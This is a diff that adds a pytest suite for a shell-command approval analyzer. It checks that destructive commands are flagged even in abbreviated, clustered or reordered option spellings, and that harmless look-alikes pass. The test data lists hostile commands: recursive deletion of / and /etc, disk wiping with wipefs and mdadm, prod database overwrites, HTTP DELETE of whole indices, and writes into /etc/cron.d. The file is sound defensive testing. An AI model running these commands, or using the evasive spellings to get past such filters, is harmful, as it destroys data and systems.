@@ -1,0 +1,120 @@
+"""Options read as each tool's own parser reads them (approval/tools/options.py, commands.getopt).
+
+For every tool whose handler reads options through a getopt spec: spellings the rules were not
+written on (abbreviated long options where the tool takes them, clusters, attached values, options
+after operands) that must be caught, and everyday look-alikes (and spellings the tool itself
+rejects, such as an abbreviated long option of a pflag/cobra tool) that must stay allowed.
+"""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from executor.approval import Decision, analyze, findings
+from executor.approval.commands import getopt, has_opt
+from executor.approval.tools.options import SPECS, parse
+
+CAUGHT = {
+    "rm_recursive_root": [
+        "rm -vfR /", "rm --rec --fo ~", "rm ~ --recursive", "rm -d -r -- /usr", "rm --verbose --recurs /etc",
+        "srm -fr /",
+    ],
+    "user_home_delete": [
+        "userdel --force --remove dave", "userdel dave --remove", "userdel --rem dave", "userdel -frZ dave",
+        "deluser -remove-home dave", "deluser --REMOVE-HOME dave", "deluser dave --remove-home",
+        "deluser --remove-a dave", "deluser --quiet --remove-ho dave",
+    ],
+    "disk_format": [
+        "wipefs --all --force /dev/sdc", "wipefs -qa /dev/sdc", "wipefs /dev/sdc -a", "wipefs --offs 0x438 /dev/sdc",
+        "wipefs -o0x438 /dev/sdc", "mdadm --zero-s /dev/sdb1", "mdadm --zero /dev/sdb1 /dev/sdc1",
+        "mdadm --cre /dev/md1 --level=1 -n2 /dev/sdb /dev/sdc", "mdadm -Cv /dev/md1 -l1 -n2 /dev/sdb /dev/sdc",
+        "mdadm --buil /dev/md2 -l0 -n2 /dev/sdb /dev/sdc",
+    ],
+    "data_restore_overwrite": [
+        "pg_restore --cle --if-exists -d prod x.dump", "pg_restore -vc -d prod x.dump", "pg_restore -d prod -j4 -c x.dump",
+        "pg_restore -Upostgres -hdb -cdprod x.dump", "pg_restore x.dump -d prod --clean",
+    ],
+    "http_delete": [
+        "curl -fsSL -X DELETE http://es:9200/logs-2024*", "curl -kXDELETE https://es:9200/_all",
+        "curl -u elastic:pw -sk -XDELETE es:9200/idx", "curl http://es:9200/idx --request DELETE",
+        "curl -H 'Content-Type: application/json' -sX DELETE http://es:9200/idx",
+        "wget --method DELETE -qO- http://es:9200/idx", "wget -q --metho=DELETE http://minio:9000/backups",
+    ],
+    "container_mass_delete": [
+        "docker image prune -af", "docker image prune --force --all", "podman image prune -fa",
+        "docker image prune -a=true", "docker image prune --all=true -f", "nerdctl image prune -fa",
+    ],
+    "cluster_delete": ["kubectl delete pods --all=true -n x", "kubectl delete deploy -RA"],
+    "chmod_recursive_system": ["chmod --recursive 000 /etc", "chown --rec root: /usr", "chgrp --recu -v staff /var"],
+    "persistence_write": ["wget --directory-pre=/etc/cron.d https://x/job", "curl -sSLo/etc/cron.d/job https://x/j"],
+    "git_force_push": ["git push --force-w origin main", "git push origin main -fu", "git push --force-if origin main"],
+}
+
+ALLOWED = [
+    # rm: not recursive, or not a protected place
+    "rm -f ./a.txt", "rm --force --verbose build.log", "rm -i notes.txt", "rm --dir emptydir", "rm -- -r",
+    "rm --recu ./build", "rm -fr ./node_modules",
+    # users: no home removal
+    "userdel --force dave", "userdel -R /chroot dave", "userdel --root /mnt dave", "deluser dave sudo",
+    "deluser --system dave", "deluser --remove dave",
+    # wipefs/mdadm: listing and inspection
+    "wipefs --no-act /dev/sdc", "wipefs -J /dev/sdc", "wipefs -t ext4 /dev/sdc", "wipefs -O DEVICE,TYPE /dev/sdc",
+    "mdadm --misc --detail /dev/md0", "mdadm -E /dev/sdb1", "mdadm --examine --scan", "mdadm -Ds", "mdadm --detail --scan",
+    "mdadm --manage /dev/md0 --ad /dev/sdc",
+    # pg_restore: listing, other targets
+    "pg_restore -f out.sql x.dump", "pg_restore --lis x.dump", "pg_restore -L list.txt -d dev x.dump",
+    "pg_restore -d cdb x.dump", "pg_restore -cl x.dump", "pg_restore --c -d prod x.dump",
+    # HTTP: other methods, a single object, a header that names DELETE
+    "curl -sX GET http://es:9200/_all/_search", "curl -sXPUT es:9200/idx", "curl -H 'X-Method: DELETE' es:9200/idx",
+    "curl -sX DELETE http://api/users/42/sessions/9", "curl --req DELETE http://es:9200/idx",
+    "wget --method=GET http://es:9200/idx", "wget -qO- https://example.com/install.txt",
+    # docker/kubectl (pflag: no abbreviated long names)
+    "docker image prune", "docker image prune -f --filter until=24h", "docker image prune --al", "docker image prune --all=false",
+    "docker ps --qui | xargs docker rm -f", "kubectl get pods -A", "kubectl delete pods --all=false web-1",
+    # chmod/chown
+    "chown --reference=a.txt b.txt", "chmod --recu 644 ./docs", "chown -R me ./src",
+    # git
+    "git push -u origin main", "git push --follow-tags origin main", "git push --force-w --dry-run origin main",
+]
+
+
+@pytest.mark.parametrize(("rule", "command"), [(r, c) for r, cs in CAUGHT.items() for c in cs])
+def test_spelling_is_caught(rule: str, command: str) -> None:
+    v = analyze(command)
+    assert v.decision is not Decision.ALLOW, (rule, command)
+    assert rule in {f.rule for f in findings(command)}, (rule, command, v)
+
+
+@pytest.mark.parametrize("command", ALLOWED)
+def test_look_alike_stays_allowed(command: str) -> None:
+    v = analyze(command)
+    assert v.decision is Decision.ALLOW, (command, v)
+
+
+def test_getopt_prefixes_only_where_the_parser_takes_them() -> None:
+    longs = ("--all", "--force", "--filter")
+    assert has_opt(getopt(["--al"], "", longs, ()), "--all")
+    assert not has_opt(getopt(["--al"], "", longs, (), long_prefix=False), "--all")
+    assert has_opt(getopt(["-fa"], "", longs, (), long_prefix=False), "-a")
+    assert getopt(["--fi=x"], "", longs, ("--filter",))[0] == [("--filter", "x")]
+    assert getopt(["--f"], "", longs, ())[0] == [("--f", None)]  # ambiguous: as written
+
+
+def test_specs_resolve_like_the_tools() -> None:
+    assert has_opt(parse("pg_restore", ["--cl", "x"]), "--clean")
+    assert not has_opt(parse("pg_restore", ["--c", "x"]), "--clean")  # --clean or --create: refused by pg_restore
+    assert parse("curl", ["-sXDELETE", "u"])[0] == [("-s", None), ("-X", "DELETE")]
+    assert parse("curl", ["--req", "DELETE", "u"])[0] == [("--req", None)]  # --request or --request-target
+    assert parse("mdadm", ["--zero", "/dev/sdb"])[0] == [("--zero-superblock", None)]
+    assert not has_opt(parse("mdadm", ["--ad", "/dev/sdb"]), "--add")  # --add, --add-spare, --add-journal
+    assert parse("deluser", ["-Remove-Home", "bob"]) == ([("--remove-home", None)], ["bob"])
+    assert parse("userdel", ["-R", "/mnt", "-r", "bob"]) == ([("-R", "/mnt"), ("-r", None)], ["bob"])
+
+
+def test_specs_are_well_formed() -> None:
+    for name, s in SPECS.items():
+        for long in s.longs + s.long_with_arg:
+            assert re.fullmatch(r"--[a-z0-9][a-z0-9.-]*", long), (name, long)
+        assert set(s.long_with_arg) <= set(s.longs) | set(s.long_with_arg)
+        assert len(set(s.longs)) == len(s.longs), name
